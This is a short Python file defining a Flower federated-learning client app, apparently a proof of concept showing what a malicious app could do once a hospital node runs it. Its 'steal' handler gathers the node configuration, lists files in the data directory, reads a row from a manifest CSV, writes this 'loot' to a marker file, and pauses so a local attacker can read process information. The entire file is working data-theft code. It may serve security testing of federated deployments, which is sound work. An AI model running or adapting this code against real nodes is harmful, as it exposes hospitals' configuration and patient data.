"""Runs at a hospital if the hospital runs whatever app arrives: writes what it can reach."""

import json
import os
import time
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query()
def steal(msg: Message, context: Context) -> Message:
    data_dir = Path(str(context.node_config.get("data-dir", ".")))
    loot = {"node_config": {k: str(v) for k, v in context.node_config.items()},
            "files": sorted(os.listdir(data_dir))[:20] if data_dir.is_dir() else []}
    manifest = data_dir / "manifest.csv"
    if manifest.is_file():
        loot["row"] = manifest.read_text().splitlines()[1]
    marker = Path(str(context.run_config["marker-dir"])) / f"stolen-{context.node_id}.json"
    marker.write_text(json.dumps(loot))
    time.sleep(3)  # stay alive a moment: a local attacker at the hospital reads /proc meanwhile
    return Message(RecordDict({"loot": ConfigRecord({"ok": 1})}), reply_to=msg)
